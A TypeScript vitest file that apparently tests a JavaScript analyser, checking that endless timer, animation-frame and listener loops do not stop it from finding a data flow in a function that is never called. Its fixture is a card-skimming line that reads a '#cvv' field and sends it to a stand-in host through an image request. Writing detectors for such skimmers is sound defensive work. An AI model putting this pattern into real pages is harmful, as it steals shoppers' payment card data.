import { expect, test } from 'vitest'
import { analyse } from './analysis.ts'

const STEPS = 20_000

test.each([
  ['a timer', `function tick(){setTimeout(tick,9);setTimeout(tick,10)}tick()`],
  ['a frame of an animation', `(function draw(){requestAnimationFrame(draw);requestAnimationFrame(draw)})()`],
  [
    'a listener that removes itself',
    `function go(){document.removeEventListener('load',go);document.addEventListener('load',go)}go()`,
  ],
])('%s without end leaves steps for functions that are never called', (_, loop) => {
  const source = `${loop};window.pay=function(){new Image().src='https://a.example.net/?'+document.querySelector('#cvv').value}`
  const { flows } = analyse(source, STEPS).observed
  expect(flows.map(({ sink }) => sink)).toContain('image')
})
